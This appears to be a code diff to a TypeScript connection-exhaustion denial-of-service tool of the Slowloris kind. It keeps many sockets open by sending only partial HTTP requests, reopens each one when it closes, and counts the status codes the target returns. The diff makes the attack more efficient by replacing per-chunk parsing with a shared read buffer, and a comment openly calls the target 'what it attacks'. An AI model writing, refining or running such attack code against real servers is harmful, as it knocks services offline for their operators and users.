@@ -9,19 +9,35 @@ const answers: Record<string, number> = {};
 let open = 0;
 let opened = 0;
 
+/** All connections have it in common, so that this process takes little of the machine that it shares with what it attacks. */
+const received = Buffer.alloc(64 * 1024);
+const BEGINNING = "HTTP/1.1 ";
+
+const count = (length: number): void => {
+  if (length < BEGINNING.length + 3 || received.toString("latin1", 0, BEGINNING.length) !== BEGINNING) return;
+  const status = received.toString("latin1", BEGINNING.length, BEGINNING.length + 3);
+  answers[status] = (answers[status] ?? 0) + 1;
+};
+
 /** Keeps one connection on which no more comes than the beginning of a request, and opens it again when it is closed. */
 const hold = ({ port, host, starts }: Attack, index: number): void => {
-  const socket = connect({ port, host, noDelay: true });
-  socket.setEncoding("latin1");
+  const socket = connect({
+    port,
+    host,
+    noDelay: true,
+    onread: {
+      buffer: received,
+      callback: (length) => {
+        count(length);
+        return true;
+      },
+    },
+  });
   socket.once("connect", () => {
     open += 1;
     opened += 1;
     socket.once("close", () => void (open -= 1));
     socket.write(starts[index % starts.length] ?? "");
-  });
-  socket.on("data", (chunk: string) => {
-    const status = /^HTTP\/1\.1 (\d{3})/u.exec(chunk)?.[1];
-    if (status !== undefined) answers[status] = (answers[status] ?? 0) + 1;
   });
   socket.on("error", () => undefined);
   socket.once("close", () => setTimeout(() => hold({ port, host, starts, sockets: 1 }, index), AGAIN_MS));
